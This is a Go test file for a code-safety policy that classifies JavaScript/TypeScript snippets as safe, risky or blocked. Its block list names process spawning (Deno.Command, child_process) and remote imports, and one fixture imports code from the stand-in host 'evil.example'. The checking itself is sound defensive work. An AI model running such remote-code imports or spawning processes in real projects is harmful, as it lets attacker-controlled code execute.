package policy

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"beeno/internal/types"
)

func TestAnalyze_Safe(t *testing.T) {
	report := NewDefaultPolicy().Analyze(context.Background(), `console.log("hello");`)
	assert.Equal(t, types.RiskSafe, report.Level)
	assert.Empty(t, report.Reasons)
	assert.False(t, report.RequiresConfirmation)
}

func TestAnalyze_BlockedPattern(t *testing.T) {
	report := NewDefaultPolicy().Analyze(context.Background(), `const p = new Deno.Command("ls");`)
	assert.Equal(t, types.RiskBlocked, report.Level)
	assert.Equal(t, []string{"blocked pattern detected: Deno.Command"}, report.Reasons)
	assert.False(t, report.RequiresConfirmation)
}

func TestAnalyze_AllBlockedPatternsReported(t *testing.T) {
	src := `const cp = "child_process"; const m = await import("http://evil.example/x.js"); new Deno.Command("x");`
	report := NewDefaultPolicy().Analyze(context.Background(), src)
	assert.Equal(t, types.RiskBlocked, report.Level)
	assert.ElementsMatch(t, []string{
		"blocked pattern detected: Deno.Command",
		"blocked pattern detected: child_process",
		`blocked pattern detected: import("http://`,
	}, report.Reasons)
}

func TestAnalyze_BlockedDominatesRisky(t *testing.T) {
	report := NewDefaultPolicy().Analyze(context.Background(), `eval("1"); new Deno.Command("ls");`)
	assert.Equal(t, types.RiskBlocked, report.Level)
	for _, r := range report.Reasons {
		assert.NotContains(t, r, "risky pattern")
	}
}

func TestAnalyze_RiskyOnly(t *testing.T) {
	report := NewDefaultPolicy().Analyze(context.Background(), `eval("1 + 1");`)
	assert.Equal(t, types.RiskRisky, report.Level)
	assert.Equal(t, []string{"risky pattern detected: eval("}, report.Reasons)
	assert.True(t, report.RequiresConfirmation)
}

func TestAnalyze_InvalidSyntaxBlocks(t *testing.T) {
	for _, src := range []string{"const =", "function (", "let x = ;"} {
		report := NewDefaultPolicy().Analyze(context.Background(), src)
		assert.Equal(t, types.RiskBlocked, report.Level, src)
		assert.Contains(t, report.Reasons, ParseFailureReason, src)
	}
}

func TestAnalyze_ParseFailureKeepsBlockedReasonsFirst(t *testing.T) {
	report := NewDefaultPolicy().Analyze(context.Background(), `child_process(`)
	require.Len(t, report.Reasons, 2)
	assert.Equal(t, "blocked pattern detected: child_process", report.Reasons[0])
	assert.Equal(t, ParseFailureReason, report.Reasons[1])
}

func TestAnalyze_TypeScriptSyntaxAccepted(t *testing.T) {
	src := "interface User { name: string }\nconst u: User = { name: \"a\" };\nexport function greet(x: User): string { return `hi ${x.name}`; }\n"
	report := NewDefaultPolicy().Analyze(context.Background(), src)
	assert.Equal(t, types.RiskSafe, report.Level, report.Reasons)
}

func TestAnalyze_TrustedPrefixesAreInert(t *testing.T) {
	cfg := DefaultConfig()
	cfg.TrustedImportPrefixes = []string{"https://evil.example"}
	p := NewPatternPolicy(cfg)

	report := p.Analyze(context.Background(), `import { x } from "https://evil.example/mod.ts";`)
	assert.Equal(t, types.RiskSafe, report.Level)
	assert.Equal(t, []string{"https://evil.example"}, p.Config().TrustedImportPrefixes)
}

func TestConfigIsImmutable(t *testing.T) {
	cfg := DefaultConfig()
	p := NewPatternPolicy(cfg)
	cfg.BlockedPatterns[0] = "changed"

	got := p.Config()
	got.RiskyPatterns[0] = "also changed"

	assert.Equal(t, "Deno.Command", p.Config().BlockedPatterns[0])
	assert.Equal(t, "eval(", p.Config().RiskyPatterns[0])
}

func TestLoadConfig_Formats(t *testing.T) {
	dir := t.TempDir()
	files := map[string]string{
		"policy.json": `{"blocked_patterns":["fetch("],"risky_patterns":["Deno.env"],"trusted_import_prefixes":[]}`,
		"policy.yaml": "blocked_patterns:\n  - fetch(\nrisky_patterns:\n  - Deno.env\n",
		"policy.toml": "blocked_patterns = [\"fetch(\"]\nrisky_patterns = [\"Deno.env\"]\ntrusted_import_prefixes = []\n",
	}

	for name, body := range files {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(dir, name)
			require.NoError(t, os.WriteFile(path, []byte(body), 0o644))

			p, err := FromSettings(path)
			require.NoError(t, err)
			assert.Equal(t, []string{"fetch("}, p.Config().BlockedPatterns)

			report := p.Analyze(context.Background(), `await fetch("https://example.com");`)
			assert.Equal(t, types.RiskBlocked, report.Level)
			report = p.Analyze(context.Background(), `console.log(Deno.env.get("HOME"));`)
			assert.Equal(t, types.RiskRisky, report.Level)
			report = p.Analyze(context.Background(), `new Deno.Command("ls");`)
			assert.Equal(t, types.RiskSafe, report.Level, "loaded document replaces defaults")
		})
	}
}

func TestLoadConfig_Errors(t *testing.T) {
	_, err := LoadConfig(filepath.Join(t.TempDir(), "missing.toml"))
	require.Error(t, err)

	bad := filepath.Join(t.TempDir(), "bad.json")
	require.NoError(t, os.WriteFile(bad, []byte("{"), 0o644))
	_, err = FromSettings(bad)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "failed to parse policy")
}

func TestFromSettings_BlankPathIsDefault(t *testing.T) {
	p, err := FromSettings("   ")
	require.NoError(t, err)
	assert.Equal(t, DefaultConfig(), p.Config())
}

func TestSchema(t *testing.T) {
	data, err := Schema()
	require.NoError(t, err)
	assert.Contains(t, string(data), "blocked_patterns")
	assert.Contains(t, string(data), "trusted_import_prefixes")
}

func TestConfigYAML(t *testing.T) {
	data, err := DefaultConfig().YAML()
	require.NoError(t, err)
	assert.Contains(t, string(data), "Deno.Command")
}
